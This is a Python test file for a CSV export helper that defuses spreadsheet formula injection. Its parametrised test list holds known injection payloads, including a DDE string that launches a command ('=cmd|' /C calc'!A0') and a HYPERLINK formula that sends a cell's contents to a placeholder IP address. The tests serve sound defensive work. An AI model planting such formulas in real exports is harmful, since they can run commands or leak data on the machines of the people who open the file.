"""CSV that a spreadsheet can open without running anything."""

import csv
import io
from datetime import UTC, date, datetime

import pytest
from hypothesis import given
from hypothesis import strategies as st

from toolkit.csv import FORMULA_STARTS, csv_lines, csv_response, safe_cell

# OWASP, "CSV Injection", and what spreadsheets make of blanks, line breaks and full-width forms before them.
FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "  =1",
    "\u00a0=1",
    "\u200b=1",
    "\ufeff=1",
    "\u3000＝1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "\x00=1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://192.0.2.1?"&A1,"x")',
    "=1;=2",
    "-2+3+cmd|' /C calc'!D2",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_is_kept_as_text(text: str) -> None:
    assert safe_cell(text).startswith("'")


@pytest.mark.parametrize("text", ["Ada Osei", "", "O'Brien", "a=b", "ada@example.org", "7 East", "Zoë 🦊", "ܐ", "_-x"])
def test_what_is_no_formula_is_left_as_it_is(text: str) -> None:
    assert safe_cell(text) == text


def test_numbers_and_dates_are_written_plainly() -> None:
    cells = [None, -5, 0.5, date(2026, 11, 24), datetime(2026, 11, 24, 15, tzinfo=UTC)]
    assert [safe_cell(cell) for cell in cells] == ["", "-5", "0.5", "2026-11-24", "2026-11-24T15:00:00+00:00"]


def test_a_spreadsheet_reads_it_as_utf_8() -> None:
    assert next(csv_lines(["Name"], [])) == "\ufeffName\r\n"


@given(st.lists(st.lists(st.text(), min_size=2, max_size=2), max_size=5))
def test_whatever_is_written_comes_back_and_no_cell_begins_like_a_formula(rows: list[list[str]]) -> None:
    written = "".join(csv_lines(["a", "b"], rows)).removeprefix("\ufeff")
    read = list(csv.reader(io.StringIO(written, newline="")))[1:]
    assert len(read) == len(rows)
    for before, after in zip(rows, read, strict=True):
        for cell, shown in zip(before, after, strict=True):
            assert shown.removeprefix("'") == cell.replace("\x00", "").removeprefix("'")
            assert not shown.startswith(FORMULA_STARTS)


def test_the_answer_is_a_file_that_is_neither_guessed_at_nor_kept() -> None:
    response = csv_response('team "7 East".csv', ["Name"], [["Ada"]])
    assert response["Content-Disposition"] == 'attachment; filename="team \\"7 East\\".csv"'
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Cache-Control"] == "no-store"
    assert b"".join(response).decode() == "\ufeffName\r\nAda\r\n"
